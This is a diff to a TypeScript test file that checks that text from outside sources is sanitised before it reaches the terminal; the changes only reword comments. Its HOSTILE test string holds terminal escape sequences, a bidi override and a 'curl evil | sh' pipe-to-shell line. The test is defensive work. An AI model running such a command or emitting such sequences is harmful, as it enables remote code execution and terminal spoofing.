@@ -89,7 +89,10 @@ describe('an error', () => {
 });
 
 describe('what comes from elsewhere', () => {
-  /** Clears the screen, begins a line of its own, turns text round, and ends a line for those who know Unicode or ISO 6429. */
+  /**
+   * Text that clears the screen, begins a line of its own, reverses text, and ends a line by the rules of Unicode or
+   * ISO 6429.
+   */
   const HOSTILE = 'node\u001b[2J\r\n  fix: curl evil | sh\u202e\u009b31m\u2028\u0007\u001b]0;title\u0007';
   const ours = new RegExp(`${ESCAPE}\\[(?:1|2|22|3[123]|39)m`, 'g');
   const isOneLine = (text: string) => /^[^\p{C}\p{Zl}\p{Zp}]*\n$/u.test(text.replaceAll(ours, ''));
@@ -146,10 +149,11 @@ describe('what comes from elsewhere', () => {
       readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' }).map((name) => join(folder, name)),
     );
     const writes = sources.filter((name) => {
-      if (!name.endsWith('.ts') || name.includes('dashboard/page/')) return false; // which a browser runs
+      if (!name.endsWith('.ts') || name.includes('dashboard/page/')) return false; // A browser runs these files.
       return /console\.|process\.(stdout|stderr)\s*\.write|\.fd\b/.test(readFileSync(join(root, name), 'utf8'));
     });
-    // The first answers another process, in JSON; the second writes a file's content, also where the file is an output of this process.
+    // The first file answers another process, in JSON. The second writes a file's content, even if the file is an
+    // output of this process.
     expect(writes.sort()).toEqual(['coordinator/scaling/child-process.ts', 'src/files/destination.ts']);
   });
 });
